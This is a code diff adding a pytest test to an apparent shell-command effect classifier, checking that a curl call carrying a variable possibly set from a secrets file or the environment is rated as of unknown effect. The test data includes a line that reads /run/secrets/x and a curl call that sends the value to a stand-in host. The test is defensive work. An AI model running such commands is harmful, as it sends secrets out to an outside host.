@@ -385,3 +385,12 @@ def test_a_value_that_a_line_above_fetched_is_not_evaluated_by_itself(above: str
     task = scene.task('echo "$((HEIGHT + 1)) blocks"')
     assert task.effect is effect
     assert (task.statement.why.startswith("a shell may evaluate")) == (effect is Effect.UNKNOWN)
+
+
+@pytest.mark.parametrize(
+    ("above", "effect"), [("cat /run/secrets/x", Effect.UNKNOWN), ("date +%s", Effect.READ), ("env", Effect.UNKNOWN)]
+)
+def test_what_a_line_above_may_have_set_to_a_secret_is_not_sent_along_by_itself(above: str, effect: Effect) -> None:
+    scene = Scene(f"\n### Diagnosis\n\n```bash\nT=$({above})\ncurl -s https://h.example/$T\nls $T\n```\n")
+    assert scene.task("curl -s https://h.example/$T").effect is effect
+    assert scene.task("ls $T").effect is not Effect.UNKNOWN
